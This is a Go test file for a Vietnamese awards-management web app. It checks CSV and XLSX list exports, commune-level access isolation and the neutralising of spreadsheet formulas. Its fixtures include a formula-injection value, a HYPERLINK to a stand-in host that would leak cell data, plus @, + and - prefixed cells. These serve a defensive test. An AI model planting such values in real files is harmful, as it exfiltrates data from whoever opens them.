package web_test

import (
	"context"
	"strings"
	"testing"

	"tdkt"
	"tdkt/core"
	"tdkt/sqldb"
	"tdkt/tdkttest"
)

// TestListExports: the lists download as XLSX and CSV from their own address with
// ?format=, with the page's filters, every row, cells that a spreadsheet would run
// as formulas neutralised, and nothing outside the account's subtree.
func TestListExports(t *testing.T) {
	tdkttest.EachDB(t, func(t *testing.T, db *sqldb.DB) {
		f := tdkttest.NewFixture(t, db)
		ctx := context.Background()
		must := func(err error) {
			t.Helper()
			if err != nil {
				t.Fatal(err)
			}
		}
		evil := tdkt.Person{OrgID: f.CommuneA.ID, FullName: `=HYPERLINK("http://x.example/?"&A1,"Bấm")`, Sex: tdkt.Male,
			Group: tdkt.GroupWorkers, Position: "+84 Tổ trưởng", Ethnicity: "Mường"}
		must(f.Svc.CreatePerson(ctx, &f.ClerkA, &evil))
		team := tdkt.CollectiveUnit{OrgID: f.CommuneA.ID, Name: "@SUM(1+1) Tổ sản xuất"}
		must(f.Svc.SaveCollective(ctx, &f.ClerkA, &team))
		home := tdkt.HouseholdRecord{OrgID: f.CommuneA.ID, HeadName: "Lò Văn Pản", Address: "-2+3 thôn Nà Hin"}
		must(f.Svc.SaveHousehold(ctx, &f.ClerkA, &home))
		d, err := f.Svc.CreateDossier(ctx, &f.ClerkA, core.DossierInput{OrgID: f.CommuneA.ID, Award: "giay_khen", Year: 2025, Title: "Tờ trình khen thưởng đột xuất"})
		must(err)
		clerkA, clerkB := f.Client(t, "canbo.a"), f.Client(t, "canbo.b")

		want(t, "the people list", get(t, f, clerkA, "/app/people?q=nguyen"), 200,
			`href="/app/people?format=csv&amp;q=nguyen"`, `href="/app/people?format=xlsx&amp;q=nguyen"`)

		x := get(t, f, clerkA, "/app/people?format=xlsx")
		if x.Status != 200 || x.Header.Get("Content-Type") != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" ||
			!strings.Contains(x.Header.Get("Content-Disposition"), `filename="danh-sach-ca-nhan.xlsx"; filename*=UTF-8''Danh%20s%C3%A1ch%20c%C3%A1%20nh%C3%A2n.xlsx`) {
			t.Fatalf("people XLSX: %d %v", x.Status, x.Header)
		}
		rows := xlsxRows(t, x.Body)
		byName := map[string][]string{}
		for _, r := range rows[1:] {
			byName[r[1]] = r
		}
		if len(rows) != 3 || rows[0][1] != "Họ và tên" {
			t.Fatalf("people XLSX rows: %q", rows)
		}
		if r := byName[`'=HYPERLINK("http://x.example/?"&A1,"Bấm")`]; r == nil || r[6] != "'+84 Tổ trưởng" || r[5] != "Công nhân, nông dân, người lao động" && r[4] != "Mường" {
			t.Errorf("the formula is not neutralised: %q", rows)
		}
		if r := byName["Nguyễn Thị Hồng Nhung"]; r == nil || r[3] != "02/04/1985" || r[8] != f.CommuneA.Name {
			t.Errorf("Nguyễn Thị Hồng Nhung's line: %q", r)
		}
		for _, r := range rows {
			for _, c := range r {
				if c == f.PersonA.CCCD {
					t.Error("the citizen ID is in the export")
				}
			}
		}

		c := csvRows(t, get(t, f, clerkA, "/app/people?format=csv&q=nguyen+thi").Body)
		if len(c) != 2 || c[1][1] != "Nguyễn Thị Hồng Nhung" {
			t.Errorf("the CSV keeps the search: %q", c)
		}
		c = csvRows(t, get(t, f, clerkA, "/app/people?format=csv&q=%3Dhyperlink").Body)
		if len(c) != 2 || !strings.HasPrefix(c[1][1], "'=HYPERLINK") {
			t.Errorf("CSV formula neutralisation: %q", c)
		}
		for _, r := range csvRows(t, get(t, f, clerkB, "/app/people?format=csv").Body)[1:] {
			if r[8] != f.CommuneB.Name {
				t.Errorf("commune B's export holds %q", r)
			}
		}
		want(t, "commune B asking for commune A's people", get(t, f, clerkB, "/app/people?org=X01&format=csv"), 404)
		want(t, "commune B asking for commune A's page", get(t, f, clerkB, "/app/orgs/"+itoa(f.CommuneA.ID)+"?format=csv"), 404)
		want(t, "commune A's page", get(t, f, clerkA, "/app/orgs/"+itoa(f.CommuneA.ID)), 200, `href="/app/orgs/`+itoa(f.CommuneA.ID)+`?format=xlsx"`)
		if c := csvRows(t, get(t, f, f.Client(t, "quantri"), "/app/orgs/"+itoa(f.CommuneB.ID)+"?format=csv").Body); len(c) != 2 || c[1][1] != "Trần Văn Đức" {
			t.Errorf("commune B's people from its page: %q", c)
		}

		c = csvRows(t, get(t, f, clerkA, "/app/collectives?format=csv").Body)
		if len(c) != 2 || c[1][1] != "'@SUM(1+1) Tổ sản xuất" || c[1][3] != f.CommuneA.Name {
			t.Errorf("collectives CSV: %q", c)
		}
		if c := xlsxRows(t, get(t, f, clerkB, "/app/collectives?format=xlsx").Body); len(c) != 1 {
			t.Errorf("commune B sees commune A's collectives: %q", c)
		}
		c = xlsxRows(t, get(t, f, clerkA, "/app/households?format=xlsx&q=lo+van").Body)
		if len(c) != 2 || c[1][1] != "Lò Văn Pản" || c[1][2] != "'-2+3 thôn Nà Hin" {
			t.Errorf("households XLSX: %q", c)
		}

		c = xlsxRows(t, get(t, f, clerkA, "/app/dossiers?status=draft&format=xlsx").Body)
		if len(c) != 2 || c[1][0] != "HS-"+itoa(d.ID) || c[1][1] != "Tờ trình khen thưởng đột xuất" || c[1][2] != "Giấy khen" || c[1][7] != "Nháp" {
			t.Errorf("dossiers XLSX: %q", c)
		}
		if c := csvRows(t, get(t, f, clerkA, "/app/dossiers?status=decided&format=csv").Body); len(c) != 1 {
			t.Errorf("the status filter is not kept: %q", c)
		}
		if c := csvRows(t, get(t, f, clerkB, "/app/dossiers?format=csv").Body); len(c) != 1 {
			t.Errorf("commune B sees commune A's dossiers: %q", c)
		}
		want(t, "the dossier list", get(t, f, clerkA, "/app/dossiers"), 200, `href="/app/dossiers?format=xlsx"`)

		c = csvRows(t, get(t, f, clerkA, "/app/inbox?format=csv").Body)
		if len(c) != 2 || c[1][0] != "HS-"+itoa(d.ID) || c[1][5] != "Nháp" || !strings.Contains(c[1][9], "Gửi") {
			t.Errorf("inbox CSV: %q", c)
		}
		for _, p := range []string{"/app/news?format=xlsx", "/app/congresses?format=xlsx"} {
			if x := get(t, f, clerkA, p); x.Status != 200 || len(xlsxRows(t, x.Body)) != 1 {
				t.Errorf("%s: %d", p, x.Status)
			}
		}
		c = csvRows(t, get(t, f, clerkA, "/app/movements?format=csv").Body)
		if c[0][1] != "Phong trào" || len(c) != 1 {
			t.Errorf("movements CSV: %q", c)
		}
		c = csvRows(t, get(t, f, clerkA, "/app/registrations?year=2025&format=csv").Body)
		if strings.Join(c[0], "|") != strings.Join(core.RegistrationReportHeader, "|") {
			t.Errorf("registrations CSV: %q", c)
		}
		if c := csvRows(t, get(t, f, clerkA, "/app/suggest?year=2025&format=csv").Body); len(c) < 2 || c[0][0] != core.SuggestHeader[0] {
			t.Errorf("suggestions CSV: %q", c)
		}
		// a person's history of changes, as the page lists it
		want(t, "the person page", get(t, f, clerkA, "/app/people/"+itoa(evil.ID)), 200, `href="/app/people/`+itoa(evil.ID)+`/audit.csv"`)
		c = csvRows(t, get(t, f, clerkA, "/app/people/"+itoa(evil.ID)+"/audit.csv").Body)
		if len(c) != 2 || c[1][1] != "canbo.a" || c[1][2] != "Tạo mới" {
			t.Errorf("audit CSV: %q", c)
		}
		if c := xlsxRows(t, get(t, f, clerkA, "/app/collectives/"+itoa(team.ID)+"/audit.xlsx").Body); len(c) != 2 {
			t.Errorf("collective audit XLSX: %q", c)
		}
		want(t, "commune B asking for a commune A person's audit", get(t, f, clerkB, "/app/people/"+itoa(evil.ID)+"/audit.xlsx"), 404)
		want(t, "commune B asking for a commune A household's audit", get(t, f, clerkB, "/app/households/"+itoa(home.ID)+"/audit.csv"), 404)
		if c := csvRows(t, get(t, f, clerkA, "/app/clusters?format=csv").Body); len(c) != 1 || c[0][1] != "Tên" {
			t.Errorf("clusters CSV: %q", c)
		}
		// the page itself is unchanged without the parameter
		want(t, "the people page", get(t, f, clerkA, "/app/people?format=pdf"), 200, "Nguyễn Thị Hồng Nhung")
	})
}

// TestCouncilExport: the province's council downloads one line per member, the chair marked.
func TestCouncilExport(t *testing.T) {
	p := newProcedure(t, tdkttest.SQLite(t))
	c := csvRows(t, get(t, p.Fixture, p.Client(t, "chutich"), "/app/councils?format=csv").Body)
	if len(c) != 11 || c[1][0] != "Hội đồng Thi đua – Khen thưởng tỉnh" || c[1][2] != "01/01/2026" {
		t.Fatalf("councils CSV: %q", c)
	}
	chairs := 0
	for _, r := range c[1:] {
		if r[6] == "Có" {
			chairs++
		}
	}
	if chairs != 1 {
		t.Errorf("%d chairs in %q", chairs, c)
	}
}
